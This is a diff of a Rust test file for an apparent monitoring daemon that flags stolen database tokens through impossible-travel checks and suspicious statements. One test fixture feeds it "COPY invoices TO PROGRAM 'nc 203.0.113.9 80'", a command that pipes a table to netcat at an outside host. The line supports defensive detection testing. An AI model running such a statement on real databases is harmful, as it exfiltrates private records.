@@ -162,13 +162,13 @@ fn nobody_travels_that_fast() {
         (&CITY, &[BERLIN], SINGAPORE, 20, BUCHAREST, 0, None, "the other is not known to be its own"),
         (&CITY, &[BERLIN], BERLIN, 20, BERLIN_2, 0, None, "the same town"),
         (&CITY, &[BUCHAREST], BUCHAREST, 20, "2001:db8:1::1", 0, None, "two machines of one hosting provider"),
-        (&CITY, &[BERLIN], BERLIN, 20, "198.19.1.5", 4, journey(13_141, 20, 39_425), "however vague the place is"),
+        (&CITY, &[BERLIN], BERLIN, 20, "198.19.1.5", 4, journey(13_194, 20, 39_582), "however vague the place is"),
         (&CITY, &[INSIDE], INSIDE, 20, BUCHAREST, 0, None, "nobody knows where the internal networks are"),
         (&CITY, &[BERLIN], BERLIN, 20, NOWHERE, 0, None, "nobody knows where that is"),
         (&["maxmind-asn"], &[BERLIN], BERLIN, 20, BUCHAREST, 0, None, "no file of places"),
         (&[], &[BERLIN], BERLIN, 20, BUCHAREST, 0, None, "no file"),
         (&[], &[BERLIN], BERLIN, 5, BUCHAREST, 3, None, "no file, within ten minutes"),
-        (&CITY, &[BERLIN], BERLIN, 5, MUNICH, 3, journey(463, 5, 5567), "within ten minutes, too"),
+        (&CITY, &[BERLIN], BERLIN, 5, MUNICH, 4, journey(463, 5, 5567), "within ten minutes, too"),
     ] {
         let (got, found) = concurrent(files, before, last, minutes, address);
         let travel = found.and_then(|found| match found.fact {
@@ -342,7 +342,10 @@ fn a_reload_swaps_the_files() {
         append(&line(1, day * DAY, BERLIN, "svc", "SELECT total FROM invoices"));
         append(&line(2, day * DAY + 5, address, "svc", statement));
     };
-    let told = |what: &str| wait_for(what, Duration::from_secs(20), || fs::read_to_string(&alerts).ok().filter(|text| text.contains(what)));
+    let told = |what: &str| {
+        let text = || fs::read_to_string(&alerts).unwrap_or_default();
+        wait_for(what, Duration::from_secs(20), || Some(text()).filter(|text| text.contains(what)))
+    };
     for day in 0..3 {
         append(&line(1, day * DAY, BERLIN, "svc", "SELECT total FROM invoices"));
     }
@@ -357,6 +360,8 @@ fn a_reload_swaps_the_files() {
     fs::copy(file("maxmind-asn"), &mmdb).expect("a file");
     daemon.reload();
     wait_for("the reload", Duration::from_secs(10), || daemon.metric("tokenwatch_config_reload_success").filter(|value| *value == 1.0));
+    // The intake takes it between two batches.
+    std::thread::sleep(Duration::from_secs(1));
     misuse(40, "203.0.113.78", "COPY invoices TO PROGRAM 'nc 203.0.113.9 80'");
     assert!(told("203.0.113.78 (AS64500 Example Hosting)").contains("203.0.113.77 (RO)"));
 }
